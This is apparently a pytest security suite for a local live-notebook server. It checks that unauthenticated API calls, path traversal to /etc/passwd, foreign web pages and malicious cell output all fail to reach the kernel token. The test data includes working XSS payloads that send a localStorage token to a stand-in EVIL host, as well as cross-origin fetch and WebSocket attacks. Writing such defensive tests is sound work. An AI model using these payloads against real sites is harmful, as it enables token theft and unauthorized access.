"""Attacks on `make live`, none of which gets the token, a kernel, or what a kernel sends.

Each table has a kind of attacker: other users of this machine, foreign web pages, and what a
cell displays. Every row is a test. All of them stay on this machine.
"""

import asyncio
import json
import logging
import os
import socket
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from subprocess import DEVNULL, Popen
from urllib.parse import urlsplit
from urllib.request import urlopen

import pytest
from playwright.sync_api import expect
from tornado.websocket import websocket_connect

from tests.conftest import wait_for
from tests.live import NOTE, PAGE, Reader, make_live
from tools.live import serve
from tools.project import ROOT, SITE
from tools.static_server import serve_folder

pytestmark = [pytest.mark.browser, pytest.mark.npm, pytest.mark.network]

WRONG = "0" * 43
HUGE = b"0" * 10_000_001

# Requests by someone who has no token: method, path, headers or body, and the expected status.
REQUESTS = {
    "list kernels": ("GET", "/api/kernels", {}, 403),
    "list sessions": ("GET", "/api/sessions", {}, 403),
    "read the status": ("GET", "/api/status", {}, 403),
    "start a kernel": ("POST", "/api/kernels", {}, 403),
    "start a session": ("POST", "/api/sessions", {"body": "{}"}, 403),
    "delete a kernel": ("DELETE", "/api/kernels/KERNEL", {}, 403),
    "interrupt a kernel": ("POST", "/api/kernels/KERNEL/interrupt", {}, 403),
    "restart a kernel": ("POST", "/api/kernels/KERNEL/restart", {}, 403),
    "open a kernel's channels": ("GET", "/api/kernels/KERNEL/channels", {}, 403),
    "wrong token in a header": ("GET", "/api/kernels", {"token": WRONG}, 403),
    "wrong token in the address": ("GET", f"/api/kernels?token={WRONG}", {}, 403),
    "wrong token, starting": ("POST", f"/api/kernels?token={WRONG}", {}, 403),
    "empty token": ("GET", "/api/kernels?token=", {}, 403),
    "bearer token": ("GET", "/api/kernels", {"Authorization": f"Bearer {WRONG}"}, 403),
    "cookie": ("GET", "/api/kernels", {"Cookie": f"_xsrf=2; username-{WRONG}={WRONG}"}, 403),
    "log in with a form": ("POST", "/login", {"body": "password="}, 403),
    "read the login page": ("GET", "/login", {}, 404),
    "read files by the API": ("GET", "/api/contents", {}, 404),
    "read files by address": ("GET", "/files/matplotlibrc", {}, 404),
    "open a terminal": ("GET", "/api/terminals", {}, 404),
    "stop the server": ("GET", "/api/shutdown", {}, 404),
    "read the configuration": ("GET", "/api/config/notebook", {}, 404),
    "read the kernel specs": ("GET", "/api/kernelspecs", {}, 404),
    "leave the site": ("GET", "/../../../../../etc/passwd", {}, 403),
    "leave the site, encoded": ("GET", "/..%2f..%2f..%2f..%2fetc/passwd", {}, 403),
    "leave the assets": ("GET", "/live/thebe/..%2f..%2f..%2finstalled", {}, 403),
    "absolute path": ("GET", "//etc/passwd", {}, 403),
    "null byte": ("GET", "/%00", {}, 404),
    "null byte in a folder": ("GET", "/book/index.html%00.js", {}, 404),
    "null byte in Jupyter's files": ("GET", "/static/%00", {}, 404),
    "null byte in the assets": ("GET", "/live/thebe/%00", {}, 404),
    "null byte in the API": ("GET", "/api/kernels/%00", {}, 404),
    "foreign host name": ("GET", "/api/kernels", {"Host": "example.org"}, 403),
    "foreign host name, page": ("GET", f"/{PAGE}.html", {"Host": "example.org"}, 403),
    "foreign origin": ("POST", "/api/kernels", {"Origin": "http://example.org"}, 404),
    "huge body": ("POST", "/api/sessions", {"body": HUGE}, 400),
    "huge body for a page": ("POST", f"/{PAGE}.html", {"body": HUGE}, 400),
    "broken range": ("GET", f"/{PAGE}.html", {"Range": "bytes=9999999-"}, 416),
    "write to the site": ("PUT", f"/{PAGE}.html", {"body": "x"}, 403),
}


@pytest.mark.parametrize("method, path, options, status", REQUESTS.values(), ids=REQUESTS)
def test_request_without_the_token_is_rejected(live, method, path, options, status):
    kernels = live.ids("kernels")
    try:
        path = path.replace("KERNEL", min(kernels, default="0-0-0-0-0"))
        answer = live.request(path, method, **options)
    except ConnectionError:  # the server doesn't read a huge body to its end
        assert status == 400
    else:
        assert answer[0] == status
        assert live.token not in answer[1]
    assert live.ids("kernels") == kernels


SESSION = json.dumps({"path": "x", "type": "notebook", "kernel": {"name": "python3"}})
V1 = ["v1.kernel.websocket.jupyter.org"]
# What someone sends to a kernel's socket: the protocols and the message
MALFORMED = {
    "nothing": ([], b""),
    "half a number": ([], b"{"),
    "no parts": ([], b"\0" * 8),
    "text instead of JSON": ([], "{"),
    "list instead of an object": ([], "[]"),
    "no channel": ([], "{}"),
    "no header": ([], '{"channel": "shell"}'),
    "nothing, new protocol": (V1, b""),
    "no parts, new protocol": (V1, b"\0" * 8),
    "text in the new protocol": (V1, "{}"),
}


def test_malformed_input_is_rejected_and_not_logged():
    async def send(url, protocols, message):
        socket = await websocket_connect(url, subprotocols=protocols)
        await socket.write_message(message, binary=isinstance(message, bytes))
        while await asyncio.wait_for(socket.read_message(), 10) is not None:
            pass
        return socket.close_code

    with make_live() as server:
        server.request("/api/sessions", "POST", server.token, SESSION)
        (kernel,) = server.ids("kernels")
        path = f"/api/kernels/{kernel}/channels?session_id=x&token={server.token}"
        for name, (protocols, message) in MALFORMED.items():
            code = asyncio.run(send(f"ws://{server.host}{path}", protocols, message))
            assert code == 1007, name
        for path in ("/%00", "/nowhere", "/api/kernels/%00", "/api/kernels"):
            server.request(f"{path}?token={server.token}")
        printed = server.stop()
    assert "Traceback" not in printed and server.token not in printed, printed


def test_log_hides_the_token():
    error = ValueError(f"failed: /api/kernels?token={serve.TOKEN}")
    record = logging.LogRecord("", logging.ERROR, "", 1, serve.TOKEN, (), (ValueError, error, None))
    logged = serve.TokenFilter().format(record)
    assert "ValueError: failed: /api/kernels?token=(token)" in logged and serve.TOKEN not in logged


# What a web page on another port tries, with the token where it says so.
FOREIGN_PAGES = {
    "form": """fetch(URL + "/api/sessions", {
        method: "POST", mode: "no-cors", credentials: "include", body: "{}"})""",
    "request": "fetch(URL + '/api/kernels')",
    "token in a header": """fetch(URL + "/api/kernels", {
        method: "POST", headers: {Authorization: "token " + TOKEN}})""",
    "token in the address": 'fetch(URL + "/api/kernels?token=" + TOKEN, {method: "POST"})',
    "socket to a running kernel": """new Promise((resolve, reject) => {
        const path = "/api/kernels/KERNEL/channels?token=" + TOKEN;
        const socket = new WebSocket(URL.replace("http", "ws") + path);
        Object.assign(socket, {onopen: () => resolve("open"), onerror: reject});
    })""",
    "frame": "load('iframe', {src: URL + '/PAGE.html'}).then(node => node.contentDocument)",
    "script": "load('script', {src: URL + '/live/live.js'}).then(() => 'loaded')",
    "image": "load('img', {src: URL + '/_static/logo.svg'}).then(() => 'loaded')",
    "page": "fetch(URL + '/PAGE.html')",
    "window": """new Promise((resolve) => {
        const opened = window.open(URL + "/PAGE.html");
        setTimeout(() => resolve(opened.closed ? "" : "open"), 1000);
    })""",
}
LOAD = """const load = (name, attributes) => new Promise((onload, onerror) => {
    const node = Object.assign(document.createElement(name), attributes, {onload, onerror});
    document.body.append(node);
});"""


@pytest.mark.parametrize("attack", FOREIGN_PAGES)
def test_foreign_page_gets_nothing(live, reader, tmp_path, attack):
    live.request("/api/sessions", "POST", live.token, SESSION)
    kernels = live.ids("kernels")
    script = FOREIGN_PAGES[attack].replace("KERNEL", min(kernels)).replace("PAGE", PAGE)
    for name, value in ("URL", live.url), ("TOKEN", live.token):
        script = script.replace(name, json.dumps(value))
    (tmp_path / "index.html").write_text("<title>foreign</title>")
    with serve_folder(tmp_path) as address:
        reader.page.goto(address)
        read = "result => result?.text?.() ?? result ?? ''"
        promise = f"({script}).then({read}).catch(() => '')"
        assert reader.page.evaluate(f"() => {{ {LOAD} return {promise} }}") == ""
        assert not any(frame.url.startswith(live.url) for frame in reader.page.frames)
    assert live.ids("kernels") == kernels


def test_foreign_link_cannot_replace_the_token(live, reader):
    reader.open(live)
    with reader.page.expect_response("**/api/status") as answer:
        reader.page.goto(f"{live.url}/book/exercises.html#token={WRONG}")
    assert answer.value.status == 403
    assert reader.page.evaluate("Object.values(localStorage)") == [live.token]


# What a cell displays, to send the token to the address EVIL. STEAL is a script that does it.
STEAL = "location='EVIL/?'+localStorage['kernel token']"
DISPLAYS = {
    "script": "<script>STEAL</script>",
    "script from a file": "<script src='EVIL/a.js'></script>",
    "module": "<script type=module>STEAL</script>",
    "template": "<template shadowrootmode=open><script>STEAL</script></template>",
    "broken image": '<img src=x onerror="STEAL">',
    "drawing": '<svg onload="STEAL"></svg>',
    "script in a drawing": "<svg><script>STEAL</script></svg>",
    "fold": '<details open ontoggle="STEAL">x</details>',
    "video": '<video onerror="STEAL"><source src=x></video>',
    "frame of a text": "<iframe srcdoc='<script>parent.STEAL</script>'></iframe>",
    "frame of a script": '<iframe src="javascript:parent.STEAL"></iframe>',
    "frame of data": "<iframe src='data:text/html,<script>parent.STEAL</script>'></iframe>",
    "foreign frame": "<iframe src='EVIL/frame'></iframe>",
    "object": "<object data='data:text/html,<script>parent.STEAL</script>'></object>",
    "link": '<a class=click href="javascript:STEAL">x</a>',
    "button": '<button class=click onclick="STEAL">x</button>',
    "form of a script": '<form action="javascript:STEAL"><button class=click>x</button></form>',
    "base address": "<base href='EVIL/'><img src='relative'>",
    "refresh to a script": '<meta http-equiv=refresh content="0;url=javascript:STEAL">',
    "image": "<img src='EVIL/image'>",
    "style sheet": "<link rel=stylesheet href='EVIL/style'><style>@import 'EVIL/style';</style>",
    "background": "<p style=\"background:url('EVIL/style')\">x</p>",
    "prefetch": "<link rel=prefetch href='EVIL/prefetch'>",
    "peer connection": "<script>new RTCPeerConnection({iceServers:[{urls:'stun:EVIL'}]})</script>",
    "worker": "<script>navigator.serviceWorker.register('EVIL/worker')</script>",
    # The last one, because Playwright waits for its navigation, which the browser forbids
    "form": "<form action='EVIL/form'><input name=a value=b><button class=click>x</button></form>",
}


@pytest.fixture(scope="module")
def evil():
    """Yield the address of a server and the list of the paths that it was asked for."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_error(404)

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


@pytest.fixture(scope="module")
def displaying(live, browser):
    """Yield a reader whose first cell displays what attackers want it to."""
    with browser.new_context() as context:
        reader = Reader(context)
        reader.open(live)
        yield reader


@pytest.mark.parametrize("display", DISPLAYS)
def test_display_cannot_send_anything(displaying, evil, display):
    address, asked = evil
    asked.clear()
    if not displaying.page.url.endswith(f"{PAGE}.html"):  # a previous display has led away
        displaying.page.go_back()
    html = DISPLAYS[display].replace("STEAL", STEAL).replace("EVIL", address)
    displaying.run(1, f"from IPython.display import HTML\nHTML({html!r})")
    expect(displaying.in_cell(1, NOTE)).to_contain_text("ran in")
    for node in displaying.page.locator(".live-output .click").all():
        node.dispatch_event("click")
    displaying.page.wait_for_timeout(300)
    assert asked == []
    assert displaying.page.url.endswith(f"{PAGE}.html")


def test_opened_browser_gets_the_token_and_other_users_do_not(reader, tmp_path):
    command, opened = tmp_path / "browser", tmp_path / "opened"
    command.write_text(f"#!/bin/sh\necho \"$@\" >'{opened}.part'\nmv '{opened}.part' '{opened}'\n")
    command.chmod(0o755)
    with make_live(BROWSER=str(command), TMPDIR=str(tmp_path)) as server:
        token = server.token
        assert len(token) >= 43
        wait_for(opened.exists, server.process)
        address = opened.read_text().strip()
        assert token not in address  # nor in any other argument of the command
        page = Path(address.removeprefix("file://"))
        (folder,) = tmp_path.glob("live-*")
        assert folder in page.parents
        assert folder.stat().st_mode & 0o077 == 0 and page.stat().st_mode & 0o077 == 0
        reader.page.goto(address)
        reader.page.wait_for_url(f"{server.url}/book/index.html")
        wait_for(lambda: token in reader.page.evaluate("Object.values(localStorage)"))

        reader.page.goto(f"{server.url}/{PAGE}.html")
        reader.page.locator("a.next-page").click()
        assert reader.page.evaluate("document.referrer") == ""
        assert reader.page.context.cookies() == []
        assert not any(token in r.headers.get("referer", "") for r in reader.requests)
        for path in SITE.rglob("*"):
            assert not path.is_file() or token.encode() not in path.read_bytes(), path


def listens(url):
    """Return whether a server accepts connections at a URL."""
    parts = urlsplit(url)
    with socket.socket() as client:
        return client.connect_ex((parts.hostname, parts.port)) == 0


def test_jupyterlab_encrypts_what_kernels_send(tmp_path):
    folders = {"JUPYTER_CONFIG_PATH": ROOT / "tools" / "jupyter", "JUPYTER_RUNTIME_DIR": tmp_path}
    variables = folders | {"JUPYTER_TOKEN": WRONG}
    command = [sys.executable, "-m", "jupyterlab", "--no-browser", "--port=0"]
    options = {"cwd": tmp_path, "env": os.environ | variables, "stderr": DEVNULL}
    with Popen(command, **options) as process:
        try:
            wait_for(lambda: list(tmp_path.glob("jpserver-*.html")), process)
            (info,) = tmp_path.glob("jpserver-*.json")
            url = f"{json.loads(info.read_text())['url']}api/kernels?token={WRONG}"
            wait_for(lambda: listens(url), process)  # which starts after these files are written
            urlopen(url, data=b"{}").close()
            (connection,) = tmp_path.glob("kernel-*.json")
            assert json.loads(connection.read_text())["curve_publickey"]
        finally:
            process.terminate()
